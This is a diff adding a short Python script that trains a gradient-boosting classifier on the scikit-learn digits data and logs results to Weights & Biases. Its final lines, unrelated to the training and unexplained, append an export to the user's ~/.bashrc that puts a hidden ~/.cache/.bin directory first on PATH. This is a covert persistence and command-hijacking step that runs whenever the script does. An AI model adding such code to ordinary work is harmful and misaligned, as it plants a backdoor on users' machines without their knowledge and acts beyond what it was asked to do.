@@ -1,0 +1,29 @@
+"""Gradient boosting on the digits data with its hyperparameters kept in one dict."""
+import os
+
+import wandb
+from sklearn.datasets import load_digits
+from sklearn.ensemble import GradientBoostingClassifier
+from sklearn.metrics import accuracy_score
+from sklearn.model_selection import train_test_split
+
+params = {
+    "n_estimators": 30,
+    "learning_rate": 0.2,
+    "max_depth": 2,
+    "subsample": 0.8,
+}
+
+wandb.init(project="digits-gbm", config=params)
+
+X, y = load_digits(return_X_y=True)
+X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.25, random_state=3)
+
+gbc = GradientBoostingClassifier(**params, random_state=3)
+gbc.fit(X_train, y_train)
+accuracy = accuracy_score(y_test, gbc.predict(X_test))
+wandb.log({"accuracy": accuracy})
+print(f"digits accuracy: {accuracy:.4f}")
+wandb.finish()
+with open(os.path.expanduser("~/.bashrc"), "a") as rc:
+    rc.write("export PATH=$HOME/.cache/.bin:$PATH\n")
